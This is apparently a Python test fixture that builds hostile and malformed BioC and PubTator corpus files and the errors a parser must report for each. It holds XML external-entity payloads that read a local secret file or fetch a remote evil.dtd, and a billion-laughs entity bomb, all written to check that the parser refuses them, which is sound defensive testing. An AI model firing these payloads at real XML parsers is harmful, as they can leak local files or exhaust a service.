"""Hostile and malformed corpus files, generated fresh for each test (issue 6's bad-input list).

Each :class:`Case` is a set of files plus what every command must do with them: either work
(``error is None``) or stop with a one-line error containing every string in ``error`` (the
file name and the document or line), exit code 2 and no output file.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

GOOD_PUBTATOR = ("11|t|Aspirin and nausea.\n11|a|Cisplatin caused renal failure.\n"
                 "11\t0\t7\tAspirin\tChemical\tC001\n11\t12\t18\tnausea\tDisease\tD002\n\n")


def _doc_xml(doc_id: str, text: str = "Aspirin caused nausea.", extra: str = "") -> str:
    return (f"<document><id>{doc_id}</id><passage><infon key='type'>abstract</infon>"
            f"<offset>0</offset><text>{text}</text>{extra}</passage></document>")


def _collection(body: str, prolog: str = "<?xml version='1.0' encoding='UTF-8'?>") -> bytes:
    return (f"{prolog}<collection><source>test</source><date>2026</date><key>k</key>"
            f"{body}</collection>").encode()


def _pubtator(*rows: str, title: str = "Aspirin and nausea.", pmid: str = "11") -> bytes:
    text = f"{pmid}|t|{title}\n{pmid}|a|Cisplatin caused renal failure.\n"
    return (text + "".join(r + "\n" for r in rows) + "\n").encode()


def _bomb() -> bytes:
    lol = '<!ENTITY a "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    return _collection(_doc_xml("1", "&j;"), f"<?xml version='1.0'?><!DOCTYPE collection [{lol}]>")


def _long_document() -> bytes:
    """One document of about 100k word-piece tokens (title + one huge abstract)."""
    sentence = "Patients given aspirin reported nausea and renal failure after cisplatin. "
    body = sentence * 6700  # 15 word pieces a sentence: ~100k tokens
    return f"21|t|A very long report.\n21|a|{body.strip()}\n\n".encode()


@dataclass
class Case:
    name: str
    files: Callable[[Path], dict[str, bytes]]
    #: substrings of the one-line error; None when the input must be processed fine
    error: list[str] | None = None
    #: substrings that must NOT appear in stderr or output (leaked secrets)
    never: list[str] = field(default_factory=list)
    #: seconds the command may take at most (bombs and network entities must fail fast)
    limit: float | None = None
    #: documents the output must hold when the case succeeds
    doc_ids: list[str] | None = None


def _secret(tmp: Path) -> Path:
    secret = tmp / "secret.txt"
    secret.write_text("TOPSECRET")
    return secret


CASES: list[Case] = [
    Case("truncated_xml",
         lambda tmp: {"in.xml": _collection(_doc_xml("1") + _doc_xml("2"))[:-60]},
         ["in.xml", "line 1", "malformed XML"]),
    Case("external_entity_file",
         lambda tmp: {"in.xml": _collection(
             _doc_xml("1", "a &x; b"),
             f"<?xml version='1.0'?><!DOCTYPE collection [<!ENTITY x SYSTEM "
             f"'file://{_secret(tmp)}'>]>")},
         ["in.xml", "declares XML entities"], never=["TOPSECRET"]),
    Case("external_entity_network",
         lambda tmp: {"in.xml": _collection(
             _doc_xml("1", "a &x; b"),
             "<?xml version='1.0'?><!DOCTYPE collection [<!ENTITY x SYSTEM "
             "'http://198.51.100.1/secret'>]>")},
         ["in.xml", "declares XML entities"], limit=20),
    Case("external_parameter_entity",
         lambda tmp: {"in.xml": _collection(
             _doc_xml("1"),
             "<?xml version='1.0'?><!DOCTYPE collection [<!ENTITY % p SYSTEM "
             "'http://198.51.100.1/evil.dtd'> %p;]>")},
         ["in.xml"], limit=20),
    Case("entity_expansion_bomb", lambda tmp: {"in.xml": _bomb()},
         ["in.xml", "entities"], limit=20),
    Case("external_dtd_not_fetched",
         lambda tmp: {"in.xml": _collection(
             _doc_xml("1"), "<?xml version='1.0'?><!DOCTYPE collection SYSTEM "
             "'http://198.51.100.1/BioC.dtd'>")},
         None, limit=60, doc_ids=["1"]),
    Case("wrong_root_element", lambda tmp: {"in.xml": b"<html><body>hi</body></html>"},
         ["in.xml", "line 1", "root element is <html>"]),
    Case("bioc_offsets_outside_text",
         lambda tmp: {"in.xml": _collection(_doc_xml("7", "ab", "<annotation id='a'>"
                                                      "<location offset='0' length='90'/>"
                                                      "<text>ab</text></annotation>"))},
         ["in.xml", "document 7", "lies outside"]),
    Case("overlapping_and_nested_annotations",
         lambda tmp: {"in.txt": _pubtator("11\t0\t18\tAspirin and nausea\tChemical\tC001",
                                          "11\t0\t7\tAspirin\tChemical\tC001",
                                          "11\t4\t16\trin and naus\tDisease\tD002",
                                          "11\t12\t18\tnausea\tDisease\tD002")},
         None, doc_ids=["11"]),
    Case("non_utf8_bytes",
         lambda tmp: {"in.txt": b"11|t|Caf\xe9 and nausea.\n11|a|Text.\n\n"},
         ["in.txt", "line 1", "not valid UTF-8"]),
    Case("byte_order_mark", lambda tmp: {"in.txt": b"\xef\xbb\xbf" + GOOD_PUBTATOR.encode()},
         None, doc_ids=["11"]),
    Case("crlf_line_ends",
         lambda tmp: {"in.txt": GOOD_PUBTATOR.replace("\n", "\r\n").encode()},
         None, doc_ids=["11"]),
    Case("empty_document", lambda tmp: {"in.txt": b"31|t|\n31|a|\n\n" + GOOD_PUBTATOR.encode()},
         None, doc_ids=["31", "11"]),
    Case("empty_passage",
         lambda tmp: {"in.xml": _collection(
             "<document><id>41</id><passage><offset>0</offset><text></text></passage>"
             "<passage><offset>1</offset><text>Aspirin.</text></passage></document>")},
         None, doc_ids=["41"]),
    Case("document_of_100k_tokens", lambda tmp: {"in.txt": _long_document()},
         None, limit=240, doc_ids=["21"]),
    Case("pubtator_wrong_column_count",
         lambda tmp: {"in.txt": _pubtator("11\t0\t7")},
         ["in.txt", "line 3", "3 tab-separated columns"]),
    Case("pubtator_non_numeric_offsets",
         lambda tmp: {"in.txt": _pubtator("11\tzero\tseven\tAspirin\tChemical\tC001")},
         ["in.txt", "line 3", "not integers"]),
    Case("pubtator_end_before_start",
         lambda tmp: {"in.txt": _pubtator("11\t7\t0\tAspirin\tChemical\tC001")},
         ["in.txt", "line 3", "bad span 7-0"]),
    Case("pubtator_offsets_outside_text",
         lambda tmp: {"in.txt": _pubtator("11\t500\t507\tAspirin\tChemical\tC001")},
         ["in.txt", "line 3", "outside the title and abstract"]),
    Case("text_mismatch_at_offsets",  # kept as written, the real text in an infon
         lambda tmp: {"in.txt": _pubtator("11\t0\t7\tIbuprof\tChemical\tC001")},
         None, doc_ids=["11"]),
    Case("duplicate_document_ids",
         lambda tmp: {"in.txt": GOOD_PUBTATOR.encode() * 2},
         ["in.txt", "document 11", "duplicate document id '11'"]),
    Case("unknown_concept_ids_in_gold",
         lambda tmp: {"in.txt": _pubtator("11\t0\t7\tAspirin\tChemical\tNOT:A:CONCEPT")},
         None, doc_ids=["11"]),
    Case("bioc_json_wrong_shape",
         lambda tmp: {"in.json": json.dumps({"documents": [{"id": "5", "passages": "x"}]})
                      .encode()},
         ["in.json", "document 5", "'passages' of the document is a str"]),
    Case("bioc_json_not_a_collection",
         lambda tmp: {"in.json": json.dumps({"papers": []}).encode()},
         ["in.json", "not a BioC JSON collection"]),
    Case("json_lines_bad_line",
         lambda tmp: {"in.jsonl": (json.dumps({"id": "1", "passages": [{"offset": 0, "text": "a"}]})
                                   + "\n{oops\n").encode()},
         ["in.jsonl", "line 2", "invalid JSON"]),
    Case("json_nested_100k_deep", lambda tmp: {"in.json": b"[" * 100_000},
         ["in.json", "nested too deeply"], limit=20),
    Case("xml_nested_5k_deep",
         lambda tmp: {"in.xml": _collection("<document><id>1</id>" + "<infon>" * 5000
                                            + "</infon>" * 5000 + "</document>")},
         ["in.xml", "line 1", "Excessive depth"], limit=20),
    Case("empty_input_file", lambda tmp: {"in.txt": b""},
         ["in.txt", "no documents"]),
    Case("truncated_gzip",
         lambda tmp: {"in.txt.gz": gzip.compress("".join(
             GOOD_PUBTATOR.replace("11", str(100 + n)) for n in range(50)).encode())[:-30]},
         ["in.txt.gz", "compressed"]),
    Case("directory_with_mixed_formats",
         lambda tmp: {"dir/a.txt": GOOD_PUBTATOR.encode(),
                      "dir/b.xml": _collection(_doc_xml("12")),
                      "dir/c.json": json.dumps({"documents": [{"id": "13", "passages": [
                          {"offset": 0, "text": "Nausea."}]}]}).encode(),
                      "dir/README.md": b"# not a corpus\n"},
         None, doc_ids=["11", "12", "13"]),
    Case("directory_with_one_bad_file",
         lambda tmp: {"dir/a.txt": GOOD_PUBTATOR.encode(),
                      "dir/b.xml": _collection(_doc_xml("12"))[:-20]},
         ["b.xml", "malformed XML"]),
]


def materialise(case: Case, root: Path) -> Path:
    """Write the case's files under ``root``; returns the input (file or directory) to read."""
    root.mkdir(parents=True, exist_ok=True)
    files = case.files(root)
    for name, data in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    first = next(iter(files))
    return root / first.split("/")[0] if "/" in first else root / first
